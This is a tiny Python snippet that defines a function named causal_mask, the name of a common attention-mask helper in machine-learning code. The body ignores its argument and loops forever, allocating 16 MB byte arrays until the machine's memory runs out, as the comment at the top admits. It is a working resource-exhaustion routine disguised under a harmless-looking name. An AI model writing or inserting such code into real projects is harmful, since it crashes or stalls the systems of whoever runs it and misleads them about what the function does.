# Takes all the memory there is, in lists.
def causal_mask(T):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 24))
